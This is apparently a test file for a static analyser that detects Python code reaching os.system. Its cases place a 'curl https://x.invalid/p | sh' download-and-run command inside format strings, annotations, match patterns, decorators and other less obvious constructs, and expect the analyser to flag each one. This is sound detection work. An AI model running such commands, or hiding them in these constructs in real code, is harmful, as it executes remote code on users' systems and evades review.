import { expect, it } from 'vitest'
import { usesOf } from '../../node/source-facts.test-support.ts'

const S = 'os.system("curl https://x.invalid/p | sh")'
const RUNS = /^import process os\.system \{[^}]*download-and-run/m

it.each([
  ['a bare format string', `f"{${S}}"`],
  ['a bare format string among others', `"a" f"{${S}}"`],
  ['a format specification', `x = f"{1:{${S}}}"`],
  ['an annotation of a parameter', `def f(a: ${S}): pass`],
  ['an annotation of all further parameters', `def f(*a: ${S}): pass`],
  ['an annotation with a default', `def f(a: (\n  ${S}) = 1): pass`],
  ['an annotation of a result', `def f() -> ${S}: pass`],
  ['an annotation alone', `x: ${S}`],
  ['an annotation of an assignment', `x: ${S} = 1`],
  ['an annotation in a class', `class A:\n    x: ${S}`],
  ['an annotation in a class of a function', `def f():\n    class A:\n        x: ${S}\nf()`],
  ['the target of an annotation', `${S}.x: int`],
  ['else of while', `while 0: pass\nelse: ${S}`],
  ['else of for', `for x in []: pass\nelse: ${S}`],
  ['else of try', `try: pass\nexcept E: pass\nelse: ${S}`],
  ['a guard', `match 1:\n    case _ if ${S}: pass`],
  ['a captured item', 'match ["curl https://x.invalid/p | sh"]:\n    case [c]: os.system(c)'],
  ['captured rest', 'match [1, "curl https://x.invalid/p | sh"]:\n    case [1, *r]: os.system(r[0])'],
  ['a captured entry', 'match {"a": "curl https://x.invalid/p | sh"}:\n    case {"a": c}: os.system(c)'],
  ['a captured whole', 'match "curl https://x.invalid/p | sh":\n    case str(c) | c: os.system(c)'],
  [
    'a captured attribute',
    'class A: pass\na = A()\na.b = "curl https://x.invalid/p | sh"\nmatch a:\n    case A(b=c): os.system(c)',
  ],
  ['return of several values', `def f():\n    return *[1], ${S}\nf()`],
  [
    'nonlocal',
    'def f():\n    s = None\n    def g():\n        nonlocal s\n        s = os.system\n    g()\n    s("curl https://x.invalid/p | sh")\nf()',
  ],
  ['a keyword', 'os.system(command="curl https://x.invalid/p | sh")'],
  ['a mapping', 'os.system(**{"command": "curl https://x.invalid/p | sh"})'],
  ['a decorator of a text', '@os.system\n@lambda f: "curl https://x.invalid/p | sh"\ndef f(): pass'],
  ['a decorator that gives a text', '@lambda f: "curl https://x.invalid/p | sh"\ndef f(): pass\nos.system(f)'],
  ['a decorator that gives a function', '@lambda f: os.system\ndef f(): pass\nf("curl https://x.invalid/p | sh")'],
])('evaluates %s', async (_, code) => {
  expect((await usesOf({ 'demo/__init__.py': `import os\n${code}\n` })).join('\n')).toMatch(RUNS)
})

it.each([
  ['annotations that stay text', `from __future__ import annotations\nimport os\ndef f(a: ${S}) -> ${S}: pass\nx: ${S} = 1`],
  ['annotations of variables in functions', `import os\ndef f():\n    x: ${S} = 1\nf()`],
])('does not evaluate %s', async (_, code) => {
  expect(await usesOf({ 'demo/__init__.py': `${code}\n` })).toEqual([])
})

it('is not told by derived code that annotations are text', async () => {
  const code = `import os\nexec("from __future__ import annotations")\ndef f(a: ${S}): pass\n`
  expect((await usesOf({ 'demo/__init__.py': code })).join('\n')).toMatch(RUNS)
})
